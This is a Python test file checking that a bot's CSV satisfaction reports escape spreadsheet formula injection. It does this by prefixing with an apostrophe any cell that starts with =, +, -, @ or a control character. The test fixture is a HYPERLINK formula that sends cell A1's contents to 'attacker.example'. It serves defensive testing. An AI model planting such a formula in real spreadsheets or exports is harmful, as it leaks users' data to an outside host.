"""CSV reports never carry a cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import date

from bot.render import report_text as reporting
from storage import reports, units


async def test_formula_leading_names_come_out_as_text_in_csv(app):
    evil = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")'
    async with app.db.write() as session:
        await units.create_unit(session, "@P", evil, "province")
    async with app.db.read() as session:
        root = await units.by_code(session, "@P")
        day = date(2026, 11, 24)
        report = await reports.satisfaction(session, root, day, day, app.tz)
    rows = list(csv.reader(io.StringIO(reporting.satisfaction_csv(report))))
    cells = [c for row in rows[1:] for c in row[:2]]
    assert cells == ["'@P", "'" + evil]
    assert not any(c[:1] in "=+-@\t\r" for c in cells if c)
    assert rows[1][2] == "0"  # numbers stay numbers
